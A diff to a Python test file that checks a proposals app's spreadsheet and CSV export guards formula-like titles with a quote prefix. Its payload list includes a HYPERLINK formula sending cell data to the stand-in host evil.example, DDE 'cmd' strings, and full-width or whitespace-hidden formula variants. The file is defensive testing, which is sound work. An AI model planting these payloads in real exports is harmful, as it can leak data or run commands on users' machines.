@@ -10,16 +10,20 @@ from proposals.models import Proposal
 from tests.conftest import proposal
 from workbooks import xlsx
 
-HOSTILE = [
+# Text a spreadsheet program would run: every one gets the guard (quote prefix, apostrophe).
+FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "+1+2",
     "-2+3",
     "@SUM(A1:A9)",
     "\tcmd|' /C calc'!A0",
     "\rcmd",
-    "#N/A",
     "=1",
+    "|cmd /C calc",  # DDE
+    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",  # full-width = + - @
+    "\n=1+1", "  =1+1", " \t@SUM(A1)",  # the formula after spaces or a line break
 ]
+HOSTILE = [*FORMULAS, "#N/A"]
 
 
 def test_text_cell_keeps_formula_like_text_as_text():
@@ -33,7 +37,8 @@ def test_text_cell_keeps_formula_like_text_as_text():
         assert cell.data_type == "s", text
         assert cell.value.replace("\n", "\r") == text.replace("\n", "\r")
     assert row[-1].data_type == "n" and float(row[-1].value) == -0.027
-    assert row[0].quotePrefix  # Excel keeps it text if someone retypes it
+    for cell, text in zip(row, HOSTILE):  # Excel keeps it text if someone retypes it
+        assert cell.quotePrefix == (text in FORMULAS), repr(text)
 
 
 def test_characters_a_workbook_cannot_hold_are_dropped_not_fatal():
@@ -65,7 +70,10 @@ def test_hostile_titles_come_back_from_the_workbook_as_text_cells(ce_plan, hosti
             title = row[1]
             assert title.data_type == "s"
             found[ids[0].value] = title.value
-    assert {pk: v.replace("\n", "\r") for pk, v in found.items()} == hostile_titles
+    def same_breaks(titles):  # a workbook keeps a line break as \n
+        return {pk: v.replace("\r", "\n") for pk, v in titles.items()}
+
+    assert same_breaks(found) == same_breaks(hostile_titles)
 
 
 def test_hostile_titles_are_guarded_in_the_flat_csv(ce_plan, hostile_titles, commissioner, client_for):
@@ -75,7 +83,7 @@ def test_hostile_titles_are_guarded_in_the_flat_csv(ce_plan, hostile_titles, com
     rows = list(csv.DictReader(io.StringIO(text, newline="")))
     titles = {int(row["Proposal id"]): row["Title"] for row in rows}
     for pk, title in hostile_titles.items():
-        assert titles[pk] == ("'" + title if title[0] in "=+-@\t\r" else title)
+        assert titles[pk] == ("'" + title if title in FORMULAS else title), repr(title)
     # Figures stay plain numbers, minus signs and all.
     row = next(r for r in rows if r["Reference"] == "[33]")
     assert row["2019/20"] == "-0.027"
